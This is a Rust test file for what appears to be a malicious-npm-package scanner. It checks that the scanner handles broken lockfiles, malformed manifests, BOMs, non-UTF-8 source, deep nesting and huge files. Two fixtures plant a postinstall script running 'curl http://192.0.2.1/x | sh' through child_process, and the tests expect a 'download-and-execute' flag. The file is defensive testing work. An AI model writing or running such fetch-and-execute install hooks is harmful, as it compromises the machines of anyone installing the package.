//! Files of a project that are broken or hostile: named, never clean, and the rest stands.

use serde_json::json;
use vetch_testkit::{Pkg, Project, Run};

use super::{dropper, harmless, incomplete, offline, rules, says, verdict};

#[track_caller]
fn unfinished(run: &Run) {
    assert!(run.status == 1 || run.status == 3, "{} {}\n{}", run.status, run.stderr, run.stdout);
    assert!(!incomplete(run).is_empty(), "{}", run.stdout);
}

#[test]
fn a_lockfile_in_conflict() {
    let conflict = "{\n  \"name\": \"demo\",\n<<<<<<< HEAD\n  \"a\": 1\n=======\n  \"a\": 2\n>>>>>>> other\n}\n";
    let project = Project::builder("demo").install(dropper("bad")).install(harmless("good")).build();
    project.write("package-lock.json", conflict);
    let run = offline(&project, &[]).expect(1);
    says(&run, &["package-lock.json", "conflict"]);
    assert_eq!(verdict(&run, "bad"), "malicious", "the installed tree is still there to judge");
    let alone = Project::builder("demo").build();
    alone.write("package-lock.json", conflict);
    let run = offline(&alone, &[]);
    assert!(run.status == 2 || run.status == 3, "{}", run.status);
    assert!(run.mentions("package-lock.json") && run.mentions("conflict"), "{}{}", run.stdout, run.stderr);
}

#[test]
fn a_lockfile_that_is_none() {
    for text in ["", "[]", "null", "{\"lockfileVersion\":", "\u{0}\u{1}", "{\"lockfileVersion\":99,\"packages\":{}}"] {
        let project = Project::builder("demo").build();
        project.write("package-lock.json", text);
        let run = offline(&project, &[]);
        assert!(run.status == 2 || run.status == 3, "{text:?}: {} {}", run.status, run.stdout);
        assert!(run.mentions("package-lock.json"), "{text:?}: {}{}", run.stdout, run.stderr);
    }
}

#[test]
fn one_entry_of_a_wrong_type() {
    for wrong in
        [json!(7), json!(null), json!([1]), json!("x"), json!({ "version": { "a": 1 } }), json!({ "version": 1 })]
    {
        let shown = wrong.to_string();
        let project = Project::builder("demo")
            .install(harmless("good"))
            .install(dropper("bad"))
            .edit_lockfile(move |lock| lock["packages"]["node_modules/odd"] = wrong)
            .build();
        let run = offline(&project, &[]).expect(1);
        assert_eq!(verdict(&run, "bad"), "malicious", "{shown}");
        assert_eq!(verdict(&run, "good"), "clean", "{shown}");
        assert!(incomplete(&run).iter().any(|text| text.contains("odd")), "{shown}: {:#?}", incomplete(&run));
    }
}

#[test]
fn byte_order_marks_change_nothing() {
    let bom = |text: &str| format!("\u{feff}{text}");
    let project = Project::builder("demo")
        .install(
            dropper("bad")
                .file("setup.js", bom("require('child_process').execSync('curl http://192.0.2.1/x | sh');\n")),
        )
        .build();
    let lock = bom(&project.read("package-lock.json"));
    project.write("package-lock.json", lock);
    let manifest = bom(&project.read("node_modules/bad/package.json"));
    project.write("node_modules/bad/package.json", manifest);
    let run = offline(&project, &[]).expect(1);
    assert!(rules(&run, "bad").iter().any(|rule| rule == "download-and-execute"), "{}", run.stdout);
}

#[test]
fn source_that_is_no_utf8() {
    let mut code = b"const cp = require('child_process'); // \xff\xfe\x80\n".to_vec();
    code.extend_from_slice(b"cp.execSync('curl http://192.0.2.1/x | sh');\n");
    let pkg = Pkg::new("bad", "1.0.0").script("postinstall", "node setup.js").file("setup.js", code);
    let project = Project::builder("demo").install(pkg).build();
    let run = offline(&project, &[]).expect(1);
    assert!(rules(&run, "bad").iter().any(|rule| rule == "download-and-execute"), "{}", run.stdout);
}

#[test]
fn source_that_cannot_be_parsed() {
    let project = Project::builder("demo").install(harmless("odd").file("index.js", "function (((\n")).build();
    let run = offline(&project, &[]).expect(3);
    says(&run, &["index.js"]);
    let unreached =
        Project::builder("demo").install(harmless("odd").file("fixtures/broken.js", "function (((\n")).build();
    offline(&unreached, &[]).expect(0);
}

#[test]
fn nesting_100_000_deep() {
    for (open, close) in [("[", "]"), ("(", ")"), ("{a:", "}"), ("f(", ")"), ("!", ""), ("a=>", "")] {
        let code = format!("module.exports = {}1{};\n", open.repeat(100_000), close.repeat(100_000));
        let project =
            Project::builder("demo").install(harmless("deep").file("index.js", code)).install(harmless("good")).build();
        let run = offline(&project, &[]).expect(3);
        assert_eq!(verdict(&run, "good"), "clean", "{open}");
        says(&run, &["index.js"]);
    }
    let lock = format!("{{\"lockfileVersion\":3,\"packages\":{}{}}}", "{\"a\":".repeat(100_000), "}".repeat(100_000));
    let project = Project::builder("demo").install(dropper("bad")).build();
    project.write("package-lock.json", lock);
    unfinished(&offline(&project, &[]));
}

#[test]
fn a_huge_file_in_one_line() {
    let code = format!("var x = \"{}\"; require('child_process').execSync(x);\n", "a".repeat(6 << 20));
    let project = Project::builder("demo").install(harmless("wide").file("index.js", code)).build();
    let run = offline(&project, &[]);
    assert!(run.stdout.len() < 200_000, "the report cuts lines: {}", run.stdout.len());
}

#[test]
fn manifests_that_are_none() {
    for text in ["{ \"name\":", "[]", "7", ""] {
        let project = Project::builder("demo").install(harmless("a")).file("node_modules/a/package.json", text).build();
        let run = offline(&project, &[]);
        unfinished(&run);
        assert_ne!(verdict(&run, "a"), "clean", "{text:?}");
        says(&run, &["package.json"]);
    }
}

#[cfg(unix)]
#[test]
fn files_that_are_none() {
    let project = Project::builder("demo").install(harmless("a")).build();
    let pipe = project.root().join("node_modules/a/pipe.js");
    let made = std::process::Command::new("mkfifo").arg(&pipe).status().unwrap();
    assert!(made.success());
    // Nobody writes into it: opening it as a file would wait forever.
    let run = offline(&project, &[]);
    assert_ne!(run.status, 2, "{}", run.stderr);
}
